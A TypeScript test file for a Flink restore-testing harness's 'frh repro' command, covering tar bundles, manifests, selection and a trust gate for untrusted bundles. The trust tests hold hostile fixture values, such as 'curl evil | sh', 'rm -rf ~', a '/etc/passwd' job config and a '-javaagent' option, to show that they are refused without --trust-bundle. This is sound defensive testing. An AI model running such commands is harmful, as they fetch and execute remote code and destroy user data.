// `frh repro BUNDLE`: the bundle's tar reads back as written, repro.json says what ran where, a bad
// bundle is one line and exit 2 before anything starts, and the last line compares the verdicts.
import { describe, expect, it } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { gzipSync } from 'node:zlib';
import { bundleFiles, imagesOfRun, reproManifest, tar, untar, TarFormatError } from '../../../harness/report/bundle.ts';
import type { ScenarioResult } from '../../../harness/report/results.ts';
import { RunReport } from '../../../harness/report/results.ts';
import { bundleRequests, checkBundleTrust, readReproBundle, reproEnvironment, yamlRequests, reproOutcomeLine, reproSelection, testNamePattern } from '../../../harness/cli/repro.ts';
import { validateInvocation } from '../../../harness/cli/validate.ts';
import { BadInputError } from '../../../harness/support/errors.ts';

const ROOT = resolve(import.meta.dirname, '../../..');
const FIXTURE = join(ROOT, 'test/unit/report/fixtures/op-zoo-stateless-upgrade-operator-flink-1.20.0.json');
const dir = mkdtempSync(join(tmpdir(), 'frh-repro-'));
const NO_IMAGES = { images: {} };

/** A Docker zoo result as the zoo's lexicographic resolver case ends: its intended RESTORE_MISMATCH. */
function zooResult(): ScenarioResult {
  const r = JSON.parse(readFileSync(FIXTURE, 'utf8')) as ScenarioResult;
  return {
    ...r,
    id: 'zoo-lexicographic-resolver',
    title: 'A resolver ordering checkpoint directories as strings resumes chk-9 although chk-10 or later exists',
    platform: 'docker',
    flinkVersion: '2.1.0',
    verdict: 'RESTORE_MISMATCH',
    expectedVerdict: 'RESTORE_MISMATCH',
  };
}

function writeBundle(name: string, files: Array<[string, string]>): string {
  const path = join(dir, name);
  writeFileSync(path, gzipSync(tar(files, 1_700_000_000)));
  return path;
}

async function badInput(argv: string[]): Promise<string> {
  const error = await validateInvocation(argv, { env: { PATH: process.env.PATH } }).then(() => undefined, (e: unknown) => e);
  expect(error).toBeInstanceOf(BadInputError);
  const message = (error as Error).message;
  expect(message).not.toContain('\n');
  return message;
}

describe('the bundle archive', () => {
  it('reads back exactly what was written, as system tar reads it', () => {
    const files: Array<[string, string]> = [
      ['README.txt', 'hello\n'],
      ['empty.txt', ''],
      ['logs/jobmanager-g1.log', `${'x'.repeat(511)}ü\n${'y'.repeat(1500)}`],
      ['exactly-512.txt', 'z'.repeat(512)],
    ];
    const archive = tar(files, 1_700_000_000);
    expect(untar(archive)).toEqual(files);
    const path = writeBundle('round-trip.tar.gz', files);
    expect(execFileSync('tar', ['-xzOf', path, 'logs/jobmanager-g1.log'], { encoding: 'utf8' })).toBe(files[2]![1]);
    // And one system tar wrote: its directory entries are skipped, its files kept.
    const source = join(dir, 'by-system-tar');
    mkdirSync(join(source, 'logs'), { recursive: true });
    writeFileSync(join(source, 'repro.json'), '{}');
    writeFileSync(join(source, 'logs', 'a.log'), 'a\n');
    const systemArchive = execFileSync('tar', ['--format=ustar', '-C', source, '-c', 'repro.json', 'logs']);
    expect(untar(systemArchive)).toEqual([['repro.json', '{}'], ['logs/a.log', 'a\n']]);
  });

  it('refuses what is not a tar archive', () => {
    expect(() => untar(Buffer.from('x'.repeat(1024)))).toThrow(TarFormatError);
    const cut = tar([['a.txt', 'a'.repeat(2000)]], 0).subarray(0, 1024);
    expect(() => untar(cut)).toThrow(/cut short/);
  });
});

describe('repro.json', () => {
  it('names the scenario, where it ran, its file, the settings that matter and both verdicts, no secrets', () => {
    const env = {
      FRH_RUN_ID: 'run-1', FRH_KUBECONFIG: '/home/me/.kube/config', FRH_RESUME_COMMAND: './pick', FRH_IMAGE_MINIO: 'my/minio:1',
      FRH_OPERATOR_VERSION: '1.7.0', FRH_OPERATOR_SCENARIOS: 'ci', FRH_OPERATOR_TOKEN: 'tok-123', FRH_PARALLEL: '2', HOME: '/root',
    };
    const manifest = reproManifest(zooResult(), env, { project: 'zoo', testFile: join(ROOT, 'scenarios/zoo/03-lexicographic-resolver.scenario.ts') });
    expect(manifest).toEqual({
      format: 1,
      id: 'zoo-lexicographic-resolver',
      title: zooResult().title,
      platform: 'docker',
      flinkVersion: '2.1.0',
      project: 'zoo',
      scenarioFile: 'scenarios/zoo/03-lexicographic-resolver.scenario.ts',
      settings: { FRH_IMAGE_MINIO: 'my/minio:1', FRH_KUBECONFIG: '/home/me/.kube/config', FRH_OPERATOR_VERSION: '1.7.0', FRH_RESUME_COMMAND: './pick' },
      verdict: 'RESTORE_MISMATCH',
      expectedVerdict: 'RESTORE_MISMATCH',
      runId: 'run-1',
    });
    // Without vitest's word, the file and the project follow from the id.
    expect(reproManifest(zooResult(), {}, {})).toMatchObject({ project: 'zoo', scenarioFile: 'scenarios/zoo/03-lexicographic-resolver.scenario.ts', settings: {} });
  });

  it('of a YAML scenario carries the YAML itself, so the bundle runs on another clone', () => {
    const yaml = join(ROOT, 'examples/scenarios/savepoint-then-cancel.yaml');
    const result = { ...zooResult(), id: 'yaml-savepoint-then-cancel', verdict: 'STATE_LOSS' as const, expectedVerdict: 'PASS' as const };
    const files = new Map(bundleFiles(result, { env: {}, scenarioYaml: yaml, argv: ['node'], project: 'yaml', testFile: join(ROOT, 'harness/scenario/yaml-run.scenario.ts'), ...NO_IMAGES }));
    expect(JSON.parse(files.get('repro.json')!)).toMatchObject({ project: 'yaml', scenarioYaml: 'scenario.yaml' });
    expect(JSON.parse(files.get('repro.json')!).scenarioFile).toBeUndefined();
    expect(files.get('scenario.yaml')).toBe(readFileSync(yaml, 'utf8'));
    const bundle = readReproBundle(writeBundle('yaml.tar.gz', [...files]));
    const selection = reproSelection(bundle, () => mkdtempSync(join(dir, 'yaml-')));
    expect(selection.project).toBe('yaml');
    const given = JSON.parse(selection.env!.FRH_SCENARIO_FILES!) as string[];
    expect(readFileSync(given[0]!, 'utf8')).toBe(readFileSync(yaml, 'utf8'));
  });

  it('is in every failing scenario\'s bundle, and command.txt names frh repro first', async () => {
    const root = mkdtempSync(join(dir, 'reports-'));
    await new RunReport(root, 'run-1').add(zooResult(), { project: 'zoo', ...NO_IMAGES });
    await new RunReport(root, 'run-1').add({ ...zooResult(), id: 'passed', verdict: 'PASS', expectedVerdict: 'PASS' }, NO_IMAGES);
    const bundle = join(root, 'run-1', 'zoo-lexicographic-resolver-docker-flink-2.1.0', 'bundle.tar.gz');
    const listing = execFileSync('tar', ['-tzf', bundle], { encoding: 'utf8' }).trim().split('\n');
    expect(listing.slice(0, 6)).toEqual(['README.txt', 'repro.json', 'result.json', 'timeline.json', 'images.json', 'command.txt']);
    expect(execFileSync('tar', ['-xzOf', bundle, 'command.txt'], { encoding: 'utf8' })).toMatch(/^frh repro bundle.tar.gz\n/);
    expect(() => readFileSync(join(root, 'run-1', 'passed-docker-flink-2.1.0', 'bundle.tar.gz'))).toThrow(/ENOENT/);
    expect(readReproBundle(bundle).scenarioFile).toBe('scenarios/zoo/03-lexicographic-resolver.scenario.ts');
  });

  it('lists the built images with the overrides applied', () => {
    const built = join(dir, 'images.json');
    writeFileSync(built, JSON.stringify({ minio: 'frh/minio:1', 'probe-flink-2.1.0': 'frh/probe-flink:2.1.0-abc' }));
    const images = imagesOfRun({ FRH_IMAGE_PROBE_FLINK_2_1_0: 'mine/probe:2' }, built);
    expect(images).toEqual({ minio: { tag: 'frh/minio:1' }, 'probe-flink-2.1.0': { tag: 'mine/probe:2' } });
  });
});

describe('frh repro', () => {
  const manifestOf = (overrides: Record<string, unknown> = {}): string => JSON.stringify({ ...reproManifest(zooResult(), {}, { project: 'zoo' }), ...overrides });

  it('runs exactly the one test of the bundle: its file by its whole path, its title, platform and version', () => {
    const bundle = readReproBundle(writeBundle('zoo.tar.gz', [['repro.json', manifestOf()]]));
    const selection = reproSelection(bundle, () => { throw new Error('no folder for a built-in scenario'); });
    expect(selection).toEqual({ project: 'zoo', filters: [join(ROOT, 'scenarios/zoo/03-lexicographic-resolver.scenario.ts')], testNamePattern: testNamePattern(bundle.manifest) });
    const pattern = new RegExp(selection.testNamePattern!);
    expect(pattern.test(`${zooResult().title} [docker, Flink 2.1.0]`)).toBe(true);
    expect(pattern.test(`${zooResult().title} [docker, Flink 1.20.0]`)).toBe(false);
    expect(pattern.test(`${zooResult().title} [kubernetes, Flink 2.1.0]`)).toBe(false);
    // `frh repro BUNDLE --repeat 3` runs the same test three times under numbered names.
    expect(pattern.test(`${zooResult().title} [docker, Flink 2.1.0] (run 2 of 3)`)).toBe(true);
    expect(pattern.test(`${zooResult().title} [docker, Flink 2.1.0] (run 2 of 3) extra`)).toBe(false);
  });

  it('takes platform, version and settings from the bundle, not from the caller', () => {
    const bundle = readReproBundle(writeBundle('settings.tar.gz', [['repro.json', manifestOf({ platform: 'kubernetes', project: 'kubernetes', settings: { FRH_KUBE_CONTEXT: 'kind-frh' } })]]));
    const env = reproEnvironment(bundle, { PATH: '/bin', FRH_PLATFORM: 'operator', FRH_FLINK_VERSIONS: '1.20.0', FRH_RESUME_COMMAND: './mine', FRH_OPERATOR_SCENARIOS: 'ci', FRH_PARALLEL: '4' });
    // The bundle's context is never applied: the person rerunning chooses the cluster.
    expect(env).toEqual({ PATH: '/bin', FRH_PLATFORM: 'kubernetes', FRH_FLINK_VERSIONS: '2.1.0', FRH_KUBERNETES_FLINK_VERSIONS: '2.1.0' });
    expect(reproEnvironment(bundle, { FRH_KUBE_CONTEXT: 'mine' }).FRH_KUBE_CONTEXT).toBe('mine');
  });

  it('runs nothing a bundle names (command, kubeconfig, provider, image, job file) without --trust-bundle, and lists it', async () => {
    const settings = { FRH_RESUME_COMMAND: 'touch /tmp/owned; echo none', FRH_KUBECONFIG: '/home/x/.kube/config', FRH_CLUSTER_PROVIDER: 'existing', FRH_KUBE_CONTEXT: 'prod', FRH_IMAGE_MINIO: 'evil/minio:1', FRH_OPERATOR_VERSION: '1.7.0' };
    const path = writeBundle('untrusted.tar.gz', [['repro.json', manifestOf({ settings })]]);
    const bundle = readReproBundle(path);
    const printed: string[] = [];
    expect(() => checkBundleTrust(bundle, new Set(), false, (text) => printed.push(text))).toThrow(/names 4 thing\(s\) that run code, reach a cluster or deploy an image here \(listed above\); read them, then run again with --trust-bundle/);
    expect(printed.join('')).toBe([
      `repro: ${path} would run or change:`,
      '  resume command (run with sh -c) FRH_RESUME_COMMAND: touch /tmp/owned; echo none (needs --trust-bundle)',
      '  kubeconfig FRH_KUBECONFIG: /home/x/.kube/config (needs --trust-bundle)',
      '  cluster provider FRH_CLUSTER_PROVIDER: existing (needs --trust-bundle)',
      '  Kubernetes context: prod (ignored: a context never comes from a bundle: give --context yourself)',
      '  image FRH_IMAGE_MINIO: evil/minio:1 (needs --trust-bundle)',
      '  setting FRH_OPERATOR_VERSION: 1.7.0',
      '',
    ].join('\n'));
    expect(() => checkBundleTrust(bundle, new Set(), true, () => undefined)).not.toThrow();
    // What the caller gives as flags is theirs: only the rest needs trust.
    expect(bundleRequests(bundle, new Set(['FRH_RESUME_COMMAND', 'FRH_KUBECONFIG', 'FRH_CLUSTER_PROVIDER', 'FRH_IMAGE_MINIO'])).filter((r) => r.needsTrust)).toEqual([]);
    // Through the CLI's validation: exit 2 before anything is built or started.
    expect(await badInput(['repro', path])).toMatch(/run again with --trust-bundle/);
  });

  it('lists what a bundled YAML scenario would run: resume commands, images, job files, FlinkDeployments, risky Flink settings', () => {
    const yaml = [
      'id: y', 'title: t', 'strategy: LATEST_STATE', 'expect: { verdict: PASS }',
      'deployment:', '  image: evil/flink:2.1.0', '  resume: { command: "curl evil | sh" }', '  job: { jar: /etc/x.jar, entryClass: a.B, config: /etc/passwd }',
      '  flinkConfig: { env.java.opts.all: "-javaagent:/x.jar", parallelism.default: 2 }',
      'upgrade:', '  resume: { command: "rm -rf ~" }',
    ].join('\n');
    expect(yamlRequests(yaml).map((r) => `${r.what}=${r.value}`)).toEqual([
      'image deployment.image=evil/flink:2.1.0',
      'resume command (run with sh -c) deployment.resume.command=curl evil | sh',
      'job file of this machine deployment.job.jar=/etc/x.jar',
      'job file of this machine deployment.job.config=/etc/passwd',
      'Flink setting deployment.flinkConfig.env.java.opts.all=-javaagent:/x.jar',
      'resume command (run with sh -c) upgrade.resume.command=rm -rf ~',
    ]);
  });

  it('answers a bad bundle with one line before anything starts', async () => {
    expect(await badInput(['repro'])).toMatch(/repro takes one bundle/);
    expect(await badInput(['repro', join(dir, 'missing.tar.gz')])).toMatch(/missing.tar.gz: no such file$/);
    expect(await badInput(['repro', dir])).toMatch(/is a folder; give its bundle.tar.gz/);
    const notGzip = join(dir, 'plain.txt');
    writeFileSync(notGzip, 'hello');
    expect(await badInput(['repro', notGzip])).toMatch(/plain.txt: not a gzipped tar archive/);
    const gzippedText = join(dir, 'text.gz');
    writeFileSync(gzippedText, gzipSync('x'.repeat(2000)));
    expect(await badInput(['repro', gzippedText])).toMatch(/text.gz: not a gzipped tar archive \(not a tar archive/);
    expect(await badInput(['repro', writeBundle('no-manifest.tar.gz', [['README.txt', 'hi']])])).toMatch(/has no repro.json/);
    expect(await badInput(['repro', writeBundle('unknown.tar.gz', [['repro.json', manifestOf({ id: 'zoo-nobody-wrote-this' })]])])).toMatch(/scenario "zoo-nobody-wrote-this" is not defined on this clone/);
    expect(await badInput(['repro', writeBundle('project.tar.gz', [['repro.json', manifestOf({ project: 'unit' })]])])).toMatch(/names project "unit"/);
    expect(await badInput(['repro', writeBundle('secret.tar.gz', [['repro.json', manifestOf({ settings: { FRH_TOKEN: 'x' } })]])])).toMatch(/setting FRH_TOKEN is not one a repro applies/);
    expect(await badInput(['repro', writeBundle('format.tar.gz', [['repro.json', manifestOf({ format: 9 })]])])).toMatch(/format 9/);
    expect(await badInput(['repro', writeBundle('ok.tar.gz', [['repro.json', manifestOf()]]), '--platform', 'kubernetes'])).toMatch(/unknown option --platform for "repro"/);
  });

  it('exits 2 with one line on stderr for a missing bundle', () => {
    const child = spawnSync(process.execPath, [join(ROOT, 'harness/cli/main.ts'), 'repro', join(dir, 'missing.tar.gz')], { encoding: 'utf8' });
    expect(child.status).toBe(2);
    expect(child.stderr).toBe(`frh: repro bundle ${join(dir, 'missing.tar.gz')}: no such file\n`);
    expect(child.stdout).toBe('');
  });

  it('ends with one line comparing the verdicts', () => {
    expect(reproOutcomeLine('RESTORE_MISMATCH', ['RESTORE_MISMATCH'])).toBe('reproduced: RESTORE_MISMATCH again (bundle: RESTORE_MISMATCH)');
    expect(reproOutcomeLine('RESTORE_MISMATCH', ['PASS'])).toBe('not reproduced: bundle RESTORE_MISMATCH, now PASS');
    expect(reproOutcomeLine('TIMEOUT', [])).toBe('not reproduced: bundle TIMEOUT, now no result');
    expect(reproOutcomeLine('NO_RESTORE', ['NO_RESTORE', 'PASS'])).toBe('not reproduced: bundle NO_RESTORE, now NO_RESTORE, PASS');
  });
});
